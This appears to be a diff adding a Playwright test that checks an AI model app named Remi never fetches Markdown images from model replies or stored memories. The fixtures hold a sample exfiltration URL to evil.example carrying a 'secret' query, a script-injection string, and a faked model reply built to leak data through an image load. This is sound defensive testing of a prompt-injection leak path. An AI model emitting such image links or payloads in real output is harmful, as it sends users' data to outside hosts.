@@ -1,0 +1,130 @@
+import type { Page } from '@playwright/test'
+import { openaiReply, startOpenAIFake, type OpenAIFake } from '../../server/src/test/fakes/openai.ts'
+import { test as base, expect, launchServer, signIn, type RemiServer } from './fixtures.ts'
+
+/**
+ * A Markdown image in what Remi shows (issue 28, item 6) is never fetched: an injected model or a
+ * quoted memory would otherwise send data out the moment it is shown. Chromium's request listener sees
+ * every request the page makes; none may leave for another host. (The fixtures also fail the test on a
+ * CSP violation, which an <img> with a remote address would be.)
+ */
+
+const LEAK = 'https://evil.example/leak.png?d=secret'
+
+/** Every http(s) request the page makes to anywhere but the server it was opened on. */
+function outsideRequests(page: Page, serverUrl: string): string[] {
+  const seen: string[] = []
+  page.on('request', (request) => {
+    const url = new URL(request.url())
+    if (/^https?:$/.test(url.protocol) && url.origin !== new URL(serverUrl).origin) seen.push(request.url())
+  })
+  return seen
+}
+
+const answers = (page: Page) =>
+  page.getByRole('log', { name: 'Conversation' }).locator('.chat-bubble-assistant')
+
+async function send(page: Page, text: string) {
+  const input = page.getByRole('textbox', { name: 'Message' })
+  await input.fill(text)
+  await input.press('Enter')
+  await expect(input).toHaveValue('')
+}
+
+async function openChat(page: Page, name: string) {
+  await page.goto('/chat')
+  await expect(page).toHaveURL(/\/login$/)
+  await signIn(page, { name })
+  await expect(page).toHaveURL(/\/chat$/)
+}
+
+async function createMemory(page: Page, memory: { text: string; tags: string[]; date: string | null }) {
+  const { csrfToken } = (await (await page.request.get('/api/auth/csrf-token')).json()) as {
+    csrfToken: string
+  }
+  const response = await page.request.post('/api/memories', {
+    data: memory,
+    headers: { 'x-csrf-token': csrfToken },
+  })
+  expect(response.status()).toBe(201)
+}
+
+base.describe('offline assistant and briefing', () => {
+  base('a memory quoted in the chat and the briefing loads no image', async ({ page, server }) => {
+    const outside = outsideRequests(page, server.url)
+    await openChat(page, 'Pedro Leak')
+    // Three days on, whatever the zone: in the briefing's "In the next 7 days".
+    const soon = new Date(Date.now() + 3 * 24 * 60 * 60 * 1000).toISOString().slice(0, 10)
+    await createMemory(page, {
+      text: `Pedro sent ![x](${LEAK}) <script>alert(1)</script> and the form <https://example.org/a_b?c=1>`,
+      tags: [],
+      date: soon,
+    })
+
+    await send(page, 'What did Pedro send?')
+    const reply = answers(page).first()
+    await expect(reply).toContainText(`Pedro sent ![x](${LEAK}) <script>alert(1)</script>`)
+    await expect(reply.locator('img')).toHaveCount(0)
+    await expect(reply.getByRole('link', { name: LEAK })).toHaveAttribute('href', LEAK)
+
+    await page.getByRole('link', { name: 'Dashboard' }).click()
+    const briefing = page.locator('.markdown-body')
+    await expect(briefing).toContainText(`Pedro sent ![x](${LEAK})`)
+    await expect(briefing.locator('img')).toHaveCount(0)
+    // The memory's own autolink, escaped as text around it: the address has no backslash (item 9).
+    await expect(briefing.getByRole('link', { name: 'https://example.org/a_b?c=1' })).toHaveAttribute(
+      'href',
+      'https://example.org/a_b?c=1',
+    )
+    await page.waitForLoadState('networkidle')
+    expect(outside).toEqual([])
+  })
+})
+
+const withModel = base.extend<object, { model: OpenAIFake; modelServer: RemiServer }>({
+  model: [
+    async ({}, use) => {
+      const fake = await startOpenAIFake()
+      await use(fake)
+      await fake.close()
+    },
+    { scope: 'worker' },
+  ],
+  modelServer: [
+    async ({ model }, use) => {
+      const server = await launchServer(model.env)
+      await use(server)
+      await server.stop()
+    },
+    { scope: 'worker', timeout: 120_000 },
+  ],
+  baseURL: async ({ modelServer }, use) => {
+    await use(modelServer.url)
+  },
+})
+
+withModel.describe('with a model', () => {
+  withModel.beforeEach(({ model }) => model.reset())
+
+  withModel(
+    'an answer with a Markdown image shows a link naming the host, and nothing is requested from it',
+    async ({ page, model, modelServer }) => {
+      const outside = outsideRequests(page, modelServer.url)
+      await openChat(page, 'Model Leak')
+      model.enqueue(openaiReply.text(['Here is the chart: ', `![chart](${LEAK})`, ' as asked.']))
+      await send(page, 'Show me a chart')
+      const reply = answers(page).first()
+      await expect(reply).toContainText('as asked.')
+      await expect(reply.locator('img')).toHaveCount(0)
+      const link = reply.getByRole('link', { name: '[Image: chart (evil.example)]' })
+      await expect(link).toHaveAttribute('href', LEAK)
+      // Shown again from the stored history.
+      await page.reload()
+      await expect(
+        answers(page).first().getByRole('link', { name: '[Image: chart (evil.example)]' }),
+      ).toBeVisible()
+      await page.waitForLoadState('networkidle')
+      expect(outside).toEqual([])
+    },
+  )
+})
